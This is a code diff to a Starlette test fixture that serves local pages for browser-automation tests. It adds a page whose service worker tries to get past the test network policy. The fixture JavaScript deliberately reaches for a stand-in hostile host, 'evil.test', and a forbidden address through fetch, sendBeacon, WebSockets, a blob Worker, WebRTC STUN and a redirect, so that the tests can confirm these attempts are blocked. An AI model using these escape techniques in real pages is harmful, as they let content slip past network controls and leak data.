@@ -1,6 +1,8 @@
-"""Pages that need a browser, served on 127.0.0.1 for tests/test_browser.py and tests/test_browser_tools.py: a
-single-page app that builds its article from a fetch, a React-like listing built from static files and a JSON API,
-an infinite-scroll listing, a form, a static article, a page that tries every way out of the network policy, a
+"""Pages that need a browser, served on 127.0.0.1 for tests/test_browser.py and
+tests/test_browser_tools.py: a single-page app that builds its article from a fetch, a React-like
+listing built from static files and a JSON API, an infinite-scroll listing, a form, a static
+article, a page that tries every way out of the network policy, a page that registers a service
+worker (served over TLS: the API exists in secure contexts only) whose own requests try to leave, a
 wall that clears once JavaScript runs, and a page that never finishes loading.
 
 Every "forbidden" address here is one the tests' policy refuses: ``evil.test`` resolves (by the tests' DNS) to a
@@ -70,12 +72,31 @@ navigator.sendBeacon('http://evil.test/beacon', 'x');
 const code = "try { new WebSocket('ws://evil.test/ws'); } catch (e) {} " +
   "try { new WebSocket('ws://FORBIDDEN/ws'); } catch (e) {} fetch('http://FORBIDDEN/worker').catch(() => {});";
 new Worker(URL.createObjectURL(new Blob([code], {type: 'text/javascript'})));
-if (navigator.serviceWorker) navigator.serviceWorker.register('/sw.js').catch(() => {});
 try { new WebSocket('ws://FORBIDDEN/page-ws'); } catch (e) {}
 try { new RTCPeerConnection({iceServers: [{urls: 'stun:FORBIDDEN'}]}).createDataChannel('x'); } catch (e) {}
 location.hash = 'ran';
 </script></body></html>"""
 )
+SERVICE_WORKER_PAGE = """<!doctype html><html><head><title>Offline harbour</title></head><body>
+<article><h1>Offline harbour</h1><p>The harbour guide, kept for reading offline.</p></article>
+<script>
+navigator.serviceWorker.register('/sw.js').then(
+  registration => { location.hash = registration ? 'registered' : 'not-registered'; },
+  () => { location.hash = 'failed'; });
+</script></body></html>"""
+SERVICE_WORKER = """self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', event => event.waitUntil(Promise.all([
+  fetch('https://evil.test/sw').catch(() => {}),
+  fetch('https://FORBIDDEN/sw').catch(() => {}),
+  new Promise(done => {
+    const socket = new WebSocket('wss://FORBIDDEN/sw');
+    socket.onerror = socket.onclose = done;
+  }),
+  fetch('/sw-reached').catch(() => {}),
+]).then(() => self.clients.claim())));"""
+"""Once active, before it takes the page over: a fetch towards the refused address and the loopback
+counter, a socket to the counter, and a fetch of its own site (the proof it ran and its requests go
+out)."""
 WALL = (
     """<!doctype html><html><head><title>Just a moment...</title></head><body>
 <div id="challenge">Checking your browser before accessing the site. Enable JavaScript and cookies to continue.</div>
@@ -179,9 +200,18 @@ async def redirect_to_evil(request: Request) -> Response:
     return RedirectResponse("http://evil.test/s.js", status_code=302)
 
 
+async def service_worker_page(request: Request) -> Response:
+    return Response(SERVICE_WORKER_PAGE, media_type="text/html")
+
+
 async def service_worker(request: Request) -> Response:
-    return Response("self.addEventListener('fetch', e => e.respondWith(fetch('http://evil.test/sw')));",
-                    media_type="text/javascript")  # fmt: skip
+    request.app.state.served.append(request.url.path)
+    return Response(_forbidden(request, SERVICE_WORKER), media_type="text/javascript")
+
+
+async def service_worker_reached(request: Request) -> Response:
+    request.app.state.served.append(request.url.path)
+    return Response(status_code=204)
 
 
 async def wall(request: Request) -> Response:
@@ -248,7 +278,9 @@ APP = Starlette(
         Route("/tricks", tricks),
         Route("/tricks.css", tricks_css),
         Route("/redirect-to-evil.js", redirect_to_evil),
+        Route("/service-worker", service_worker_page),
         Route("/sw.js", service_worker),
+        Route("/sw-reached", service_worker_reached),
         Route("/wall", wall),
         Route("/endless", endless),
         Route("/private", static),
@@ -262,3 +294,6 @@ APP = Starlette(
         Route("/form", form),
     ]
 )
+APP.state.served = []
+"""The service worker's script and its own request, as the site served them (a test clears it
+first)."""
